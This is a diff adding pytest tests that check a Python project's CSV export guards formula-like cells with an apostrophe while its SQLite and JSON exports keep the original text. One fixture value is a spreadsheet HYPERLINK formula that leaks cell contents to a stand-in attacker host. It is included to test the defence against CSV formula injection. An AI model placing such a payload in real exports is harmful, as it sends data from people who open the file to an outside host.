@@ -7,6 +7,7 @@ import contextlib
 import csv
 import hashlib
 import io
+import json
 import os
 import sqlite3
 import tempfile
@@ -15,13 +16,14 @@ from pathlib import Path
 from typing import BinaryIO
 
 import pytest
+import yaml
 from conftest import WriteRecorder
 
 from iranru_ref.check import load_checked
 from iranru_ref.database import Database
 from iranru_ref.exports import export_downloads, sqlite_file
 from iranru_ref.exports.csv_tables import write_csv
-from iranru_ref.exports.tables import TABLE_INDEX, TABLES, table_rows
+from iranru_ref.exports.tables import LIST_SEPARATOR, TABLE_INDEX, TABLES, table_rows
 from iranru_ref.load.project import Project
 from iranru_ref.site.tree import TreeWriter
 
@@ -166,3 +168,72 @@ def test_a_download_cannot_take_a_path_already_written(tmp_path: Path) -> None:
     writer.write_text("data/a.json", "{}")
     with pytest.raises(ValueError, match="data/a.json"), writer.open("data/a.json"):
         pass
+
+
+#: text cells that a spreadsheet would run, and the apostrophe that guards them
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1", "'an apostrophe"]
+
+
+def test_a_csv_text_cell_that_a_spreadsheet_would_run_gets_an_apostrophe() -> None:
+    table = TABLE_INDEX["entities"]
+    width = len(table.columns)
+    rows = [(text,) + ("plain",) * (width - 1) for text in FORMULAS]
+    rows += [("plain = text", -5, -2.5, True, None) + ("",) * (width - 5)]
+    out = io.StringIO(newline="")
+    write_csv(table, rows, out)
+    read = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
+    assert [row[0] for row in read[:-1]] == ["'" + text for text in FORMULAS]
+    assert all(row[1:] == ["plain"] * (width - 1) for row in read[:-1])
+    assert read[-1][:5] == ["plain = text", "-5", "-2.5", "true", ""]  # numbers stay numbers
+
+
+def test_formulas_in_names_are_guarded_in_the_csv_files_only(project: Path) -> None:
+    """A record whose name and aliases start like formulas: the CSV cells carry the apostrophe,
+    the SQLite database and database.json the curated text."""
+    name, *aliases = FORMULAS[:4]
+    article = "A headline\n\nThe minister said =1+1 twice.\n"
+    (project / "sources" / "formula-article.txt").write_text(article, encoding="utf-8")
+    meta = {"title": "-A title", "date": {"value": "2024", "precision": "year"},
+            "language": "en", "sha256": hashlib.sha256(article.encode()).hexdigest()}
+    record = {"name": name, "aliases": [*aliases, "'quoted", "plain"], "tags": ["diplomacy"],
+              "claims": [{"id": "said", "predicate": "stated", "text": "=1+1, he said.",
+                          "citations": [{"source": "formula-article", "paragraph": 2,
+                                         "quote": "=1+1"}]}]}
+    for path, content in (("sources/formula-article.yml", meta),
+                          ("data/people/formula-person.yml", record)):
+        (project / path).write_text(yaml.safe_dump(content, allow_unicode=True, width=1000),
+                                    encoding="utf-8")
+    written: dict[str, bytes] = {}
+
+    @contextlib.contextmanager
+    def open_file(name: str) -> Iterator[BinaryIO]:
+        buffer = io.BytesIO()
+        yield buffer
+        written[name] = buffer.getvalue()
+
+    export_downloads(load_checked(Project.find(project)), open_file)
+    stored_aliases = LIST_SEPARATOR.join(record["aliases"])
+    rows = {row["id"]: row for row in csv.DictReader(
+        io.StringIO(written["entities.csv"].decode("utf-8"), newline=""))}
+    assert rows["formula-person"]["name"] == "'" + name
+    assert rows["formula-person"]["aliases"] == "'" + stored_aliases
+    tags = list(csv.DictReader(io.StringIO(written["entity_tags.csv"].decode("utf-8"), newline="")))
+    assert {"entity_id": "formula-person", "tag": "diplomacy"} in tags  # ids are never guarded
+    claims = {row["id"]: row for row in csv.DictReader(
+        io.StringIO(written["claims.csv"].decode("utf-8"), newline=""))}
+    assert claims["formula-person.said"]["text"] == "'=1+1, he said."
+    citations = csv.DictReader(io.StringIO(written["citations.csv"].decode("utf-8"), newline=""))
+    assert [row["quote"] for row in citations if row["source_id"] == "formula-article"] == ["'=1+1"]
+    sources = csv.DictReader(io.StringIO(written["sources.csv"].decode("utf-8"), newline=""))
+    assert [row["title"] for row in sources if row["id"] == "formula-article"] == ["'-A title"]
+    with tempfile.TemporaryDirectory() as folder:
+        database = Path(folder) / "iranru.sqlite"
+        database.write_bytes(written["iranru.sqlite"])
+        with contextlib.closing(sqlite3.connect(database)) as connection:
+            stored = connection.execute("SELECT name, aliases FROM entities WHERE id = ?",
+                                        ("formula-person",)).fetchone()
+    assert stored == (name, stored_aliases)
+    entities = json.loads(written["database.json"])["entities"]
+    (entity,) = [entity for entity in entities if entity["id"] == "formula-person"]
+    assert (entity["name"], entity["aliases"]) == (name, record["aliases"])
